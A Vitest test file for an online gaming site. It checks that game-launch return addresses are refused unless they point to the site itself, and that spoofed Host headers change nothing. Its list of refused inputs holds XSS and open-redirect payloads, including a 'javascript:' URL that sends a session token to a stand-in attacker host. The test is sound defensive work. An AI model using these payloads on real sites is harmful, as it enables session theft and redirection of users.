// A launch's return address (thirdGameLogin `home`, jili/Login `HomeUrl`) through the real app: for
// every platform of the catalogue, `javascript:` and other sites are refused with 1001 and nothing
// is launched or moved (9WICKETS' transfer included), and an accepted path reaches the vendor as the
// absolute URL on the site's own origin, whatever Host or X-Forwarded-Host the request carried.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launch, openPage } from '../../../test/demo-games.ts';
import { signUp } from '../../../test/players.ts';
import { call, createTestApp, rowCounts, type TestApp } from '../../../test/test-app.ts';
import { policyOf } from '../../adapters/game-providers/policies.ts';
import type { FetchLike } from '../../adapters/payments/port.ts';
import { GAME_PLATFORM_KEYS } from '../../platform/game-config.ts';
import { checkLedger } from '../wallet/ledger-check.ts';
import { fund } from '../../../test/wallet.ts';
import { availableBalance } from '../wallet/wallet.service.ts';

const START = 50_000; // ₨500.00
const REFUSED = { code: 1001, msg: "The game's return address must be a page of this site" };
// The server's own address stands for the site without PUBLIC_BASE_URL (HOST 0.0.0.0, PORT 8080).
const SITE = 'http://localhost:8080';
const HOSTILE = [
  'javascript:alert(document.cookie)',
  'JavaScript:fetch(`//evil.example/?`+localStorage.satoken)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/',
  'http://evil.example/',
  '//evil.example/',
  '/\\evil.example/',
  'http://localhost:8080@evil.example/',
  '/game\tx',
  '/game\u001bx',
  ' /',
  `/${'a'.repeat(600)}`,
];
const EVIL_HEADERS = { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' };
const TABLES = ['game_sessions', 'game_wallet_transfers', 'game_rounds', 'ledger_entries'];

/** Every third-party platform the registry knows, by its catalogue name. */
const PLATFORMS = GAME_PLATFORM_KEYS.map((key) => ({ provider: key, platform: policyOf(key)!.platform }));

async function gameOf(t: TestApp, platform: string): Promise<{ id: number; game_id: string }> {
  const rows = await t.db.query<{ id: number; game_id: string }>("SELECT id, game_id FROM games WHERE platform = $1 AND state = 1 AND type <> 'platform' ORDER BY sort_order, id LIMIT 1", [
    platform,
  ]);
  if (!rows[0]) throw new Error(`no ${platform} game in the catalogue`);
  return rows[0];
}

const homeOf = (html: string) => /<body data-home="([^"]*)"/.exec(html)?.[1]?.replace(/&#38;/g, '&');

describe.each([
  ['without PUBLIC_BASE_URL', {}],
  ['without PUBLIC_BASE_URL, behind a trusted proxy', { TRUST_PROXY: 'true' }],
])('%s', (_name, env: Record<string, string>) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ env });
  });
  afterAll(async () => {
    expect(await checkLedger(t.db)).toEqual([]);
    await t.close();
  });

  it('the registry’s platforms are the catalogue’s third-party platforms', async () => {
    const rows = await t.db.query<{ platform: string }>("SELECT DISTINCT platform FROM games WHERE platform <> 'inhouse' AND type <> 'platform'");
    expect(rows.map((r) => r.platform).sort()).toEqual(PLATFORMS.map((p) => p.platform).sort());
  });

  describe.each(PLATFORMS)('$platform', ({ provider, platform }) => {
    it('refuses javascript:, other sites and malformed return addresses; nothing is launched or moved', async () => {
      const game = await gameOf(t, platform);
      const player = await signUp(t.app);
      await fund(t.db, player.playerId, START);
      const before = await rowCounts(t.db, TABLES);
      for (const home of HOSTILE) {
        const refused = await call(t.app, 'GET', `/usercenter/game/thirdGameLogin?playerId=${player.playerId}&id=${game.id}&home=${encodeURIComponent(home)}`, {}, {
          token: player.token,
          headers: EVIL_HEADERS,
        });
        expect({ home, code: refused.code, msg: refused.msg, data: refused.data }).toEqual({ home, ...REFUSED, data: undefined });
      }
      // NUL is refused by the route layer before the launch sees it (its own message).
      const nul = await launch(t.app, player, game.id, `&home=${encodeURIComponent('/\u0000')}`);
      expect(nul).toMatchObject({ code: 1001, url: '' });
      // The Host the request named is not the site: its absolute address is another site too.
      const named = await launch(t.app, player, game.id, `&home=${encodeURIComponent('http://evil.example/')}`);
      expect(named).toMatchObject(REFUSED);
      expect(await rowCounts(t.db, TABLES)).toEqual(before);
      expect(await availableBalance(t.db, player.playerId)).toBe(START);
    });

    it('hands the vendor an accepted path as the absolute URL on the site, whatever Host was sent', async () => {
      const game = await gameOf(t, platform);
      const player = await signUp(t.app);
      await fund(t.db, player.playerId, START);
      for (const [home, expected] of [
        ['/game?x=1&y=2', `${SITE}/game?x=1&y=2`],
        ['', `${SITE}/`],
        [`${SITE}/records`, `${SITE}/records`],
      ] as const) {
        const reply = await call<{ url: string }>(t.app, 'GET', `/usercenter/game/thirdGameLogin?playerId=${player.playerId}&id=${game.id}&home=${encodeURIComponent(home)}`, {}, {
          token: player.token,
          headers: EVIL_HEADERS,
        });
        expect(reply.code).toBe(1);
        expect(reply.data.url).toMatch(new RegExp(`^/demo-games/${provider}/`));
        const page = await openPage(t.app, reply.data.url);
        expect(page.status).toBe(200);
        expect(homeOf(page.html)).toBe(expected);
        if (provider === '9wickets') await call(t.app, 'GET', `/usercenter/game/thirdGameLogout?playerId=${player.playerId}`, {}, { token: player.token });
      }
      expect(await availableBalance(t.db, player.playerId)).toBe(START);
    });
  });

  it('a refused launch of another game leaves money at 9WICKETS where it is (nothing moves)', async () => {
    const wickets = await gameOf(t, policyOf('9wickets')!.platform);
    const other = await gameOf(t, 'JILI');
    const player = await signUp(t.app);
    await fund(t.db, player.playerId, START);
    expect((await launch(t.app, player, wickets.id)).code).toBe(1);
    expect(await availableBalance(t.db, player.playerId)).toBe(0);
    const before = await rowCounts(t.db, TABLES);
    expect(await launch(t.app, player, other.id, `&home=${encodeURIComponent('javascript:alert(1)')}`)).toMatchObject(REFUSED);
    expect(await rowCounts(t.db, TABLES)).toEqual(before);
    expect(await availableBalance(t.db, player.playerId)).toBe(0);
    await call(t.app, 'GET', `/usercenter/game/thirdGameLogout?playerId=${player.playerId}`, {}, { token: player.token });
    expect(await availableBalance(t.db, player.playerId)).toBe(START);
  });

  it('jili/Login: HomeUrl is held to the same rule', async () => {
    const game = await gameOf(t, 'JILI');
    const player = await signUp(t.app);
    const login = (home: string) =>
      call<{ url: string }>(t.app, 'GET', `/usercenter/jili/Login?playerId=${player.playerId}&GameId=${game.game_id}&HomeUrl=${encodeURIComponent(home)}`, {}, {
        token: player.token,
        headers: EVIL_HEADERS,
      });
    const before = await rowCounts(t.db, TABLES);
    for (const home of HOSTILE) expect(await login(home)).toMatchObject(REFUSED);
    expect(await rowCounts(t.db, TABLES)).toEqual(before);
    const ok = await login('/');
    expect(ok.code).toBe(1);
    expect(homeOf((await openPage(t.app, ok.data.url)).html)).toBe(`${SITE}/`);
  });
});

describe('real vendors (launch contracts, not the demo)', () => {
  let t: TestApp;
  const sent: string[] = [];
  const evoApi: FetchLike = async (_url, init) => {
    sent.push(init?.body ?? '');
    return { status: 200, text: async () => JSON.stringify({ entry: '/entry?params=x' }) };
  };
  beforeAll(async () => {
    t = await createTestApp({
      env: {
        PUBLIC_BASE_URL: 'https://play.khel.pk/',
        TRUST_PROXY: 'true',
        GAME_PG_OPERATOR_TOKEN: 'pg-operator',
        GAME_PG_SECRET_KEY: 'pg-secret',
        GAME_PG_LAUNCH_URL: 'https://m.pg.example',
        GAME_JILI_AGENT_ID: 'agent',
        GAME_JILI_AGENT_KEY: 'jili-agent-key',
        GAME_JILI_API_URL: 'https://jili.example',
        GAME_VN888_SECRET: 'vn888-secret-0123456789',
        GAME_VN888_LAUNCH_URL: 'https://vn888.example/play',
        GAME_EVO_CASINO_KEY: 'casino',
        GAME_EVO_API_TOKEN: 'api-token',
        GAME_EVO_AUTH_TOKEN: 'auth-token',
        GAME_EVO_API_URL: 'https://evo.example',
      },
      gamesFetch: evoApi,
    });
  });
  afterAll(async () => t.close());

  const thirdGameLogin = async (platform: string, home: string) => {
    const game = await gameOf(t, platform);
    const player = await signUp(t.app);
    return call<{ url: string }>(t.app, 'GET', `/usercenter/game/thirdGameLogin?playerId=${player.playerId}&id=${game.id}&home=${encodeURIComponent(home)}`, {}, {
      token: player.token,
      headers: EVIL_HEADERS,
    });
  };

  it('PG f, JILI HomeUrl and vn888 home carry the site’s absolute URL; javascript: never leaves Khel', async () => {
    const expected = 'https://play.khel.pk/game?x=1';
    for (const [platform, param] of [
      ['PG', 'f'],
      ['JILI', 'HomeUrl'],
      ['vn888', 'home'],
    ] as const) {
      const ok = await thirdGameLogin(platform, '/game?x=1');
      expect(ok.code, platform).toBe(1);
      expect(new URL(ok.data.url).searchParams.get(param), platform).toBe(expected);
      expect(await thirdGameLogin(platform, 'javascript:alert(1)'), platform).toMatchObject(REFUSED);
      expect(await thirdGameLogin(platform, 'https://evil.example/'), platform).toMatchObject(REFUSED);
    }
  });

  it('EVO lobby carries the site’s absolute URL; a refused home never reaches its launch API', async () => {
    sent.length = 0;
    expect(await thirdGameLogin('EVO', 'javascript:alert(1)')).toMatchObject(REFUSED);
    expect(sent).toEqual([]);
    const ok = await thirdGameLogin('EVO', 'https://play.khel.pk/live');
    expect(ok.code).toBe(1);
    expect(sent).toHaveLength(1);
    expect(JSON.parse(sent[0]!).config.urls).toEqual({ lobby: 'https://play.khel.pk/live' });
  });
});
